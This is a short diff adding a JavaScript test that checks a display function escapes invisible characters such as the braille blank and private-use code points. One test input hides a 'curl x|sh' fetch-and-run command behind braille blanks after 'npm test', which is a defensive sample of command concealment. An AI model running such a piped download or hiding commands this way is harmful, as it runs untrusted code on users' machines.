@@ -72,3 +72,12 @@ describe("jsonLine", () => {
     expect(JSON.parse(line)).toEqual(value);
   });
 });
+
+describe("displayText: blanks that are not spaces", () => {
+  it("escapes the braille blank and private-use characters, which a font may draw as nothing", () => {
+    expect(displayText(`npm test${"\u2800".repeat(3)}; curl x|sh`)).toBe(
+      "npm test\\u2800\\u2800\\u2800; curl x|sh",
+    );
+    expect(displayText("a\ue000b")).toBe("a\\ue000b");
+  });
+});
